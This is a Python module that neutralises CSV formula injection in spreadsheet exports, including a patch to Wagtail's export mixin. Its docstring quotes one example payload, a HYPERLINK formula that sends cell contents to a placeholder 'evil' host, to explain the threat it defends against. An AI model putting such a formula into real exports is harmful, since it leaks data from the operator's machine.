"""CSV that spreadsheet applications open as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some applications skip before reading one of those) is run as a formula by Excel,
LibreOffice and Google Sheets: user text such as ``=HYPERLINK("http://evil/?"&A1)``
in an export would leak or run something on the operator's machine. Following OWASP
("CSV injection"), such text cells get a leading single quote, which the applications
show as text. Numbers stay numbers.

Every CSV we write goes through ``writer`` (or ``safe_cell``), every XLSX we write
through ``portal.xlsx`` (same rule, ``is_formula_text``); Wagtail's spreadsheet
exports (our KB reports and Wagtail's own: search terms, form submissions, site
history…) are covered by ``neutralise_spreadsheet_exports``, applied at start-up.
"""

import csv

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_text(value) -> bool:
    """Whether a spreadsheet would run ``value`` as a formula if it were written as
    typed: the one rule for CSV here and for XLSX (``portal.xlsx``)."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def safe_cell(value):
    """``value`` as a CSV cell: text that a spreadsheet would run as a formula is
    prefixed with ``'``; anything else (numbers, dates, ordinary text) is unchanged."""
    if is_formula_text(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows pass through ``safe_cell``."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, **options) -> SafeWriter:
    return SafeWriter(file, **options)


def _write_csv_row(self, writer, row_dict):
    """``SpreadsheetExportMixin.write_csv_row`` with every cell through ``safe_cell``
    after Wagtail's own preprocessing (which turns values into text as they are).
    Wagtail's XLSX export already stores such text as text."""
    return writer.writerow(
        {
            field: safe_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
    )


_write_csv_row.neutralises_formulas = True


def neutralise_spreadsheet_exports() -> None:
    """Make every Wagtail spreadsheet export (``SpreadsheetExportMixin``: reports,
    listings, form submissions) write CSV cells through ``safe_cell``. Wagtail offers
    no setting for it, and its built-in reports export user text (search terms typed by
    anonymous readers, page titles, form submissions), so the one CSV-writing method
    of the mixin is replaced once, for all of them. Idempotent."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    SpreadsheetExportMixin.write_csv_row = _write_csv_row
